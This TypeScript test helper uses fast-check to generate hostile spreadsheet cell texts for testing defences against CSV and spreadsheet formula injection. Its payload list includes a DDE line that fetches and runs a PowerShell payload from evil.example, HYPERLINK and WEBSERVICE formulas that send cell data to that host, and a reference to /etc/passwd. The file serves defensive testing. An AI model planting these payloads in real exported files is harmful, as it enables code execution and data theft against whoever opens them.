import fc from "fast-check";

/** What begins a formula somewhere, or hides that something does. */
const beginnings = [
  "=",
  "+",
  "-",
  "@",
  " =",
  "\t=",
  "\r=",
  "\n=",
  "\r\n=",
  "＝",
  "＋",
  "－",
  "＠",
  "'=",
  "''",
  '"=',
  "{=",
  "\u202e=",
  "\u200f+",
  "\u2066=",
  "\u00a0=",
  "\u3000=",
  "\ufeff=",
  "\u200b=",
  "=-+@",
];

/** What would run, reach out, or be taken for a number, date, truth value or error. */
const payloads = [
  "1+1",
  "cmd|' /C calc'!A0",
  "cmd|'/C powershell IEX(wget evil.example/x)'!A0",
  'HYPERLINK("https://evil.example/?x="&A1,"click")',
  'WEBSERVICE("https://evil.example/"&A1)',
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML("https://evil.example","//a")',
  "'file:///etc/passwd'#$Sheet1.A1",
  "SUM(A1:A9)",
  "A1",
  "SMALLCAP.PERGAP(1,2)",
  "2024-01-01",
  "1/2",
  "MAR1",
  "TRUE",
  "#N/A",
  "#BUSY!",
  "1e5",
  "007",
  "$1.50",
  "12%",
  "0x1F",
  "\n=1+1",
  '",=1+1,"',
  '";=1+1;"',
  "</t></is></c><c><f>1+1</f></c>",
  "]]><f>1+1</f>",
  "_x003D_1+1",
  "&#61;1+1",
  "{0}{1.2}",
  "x".repeat(5_000),
  "=".repeat(1_000),
];

/** Texts as a provider might send them, so many, none empty and none longer than a cell holds. */
export function hostileTexts(count: number): string[] {
  const text = fc.oneof(
    {
      weight: 5,
      arbitrary: fc
        .tuple(fc.constantFrom(...beginnings), fc.constantFrom(...payloads))
        .map((parts) => parts.join("")),
    },
    { weight: 1, arbitrary: fc.constantFrom(...payloads) },
    { weight: 1, arbitrary: fc.string({ unit: "grapheme", minLength: 1, maxLength: 40 }) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.constantFrom("", ...beginnings),
          fc.string({ unit: "grapheme-ascii", minLength: 1, maxLength: 20 }),
        )
        .map((parts) => parts.join("")),
    },
  );
  return fc.sample(text, count);
}
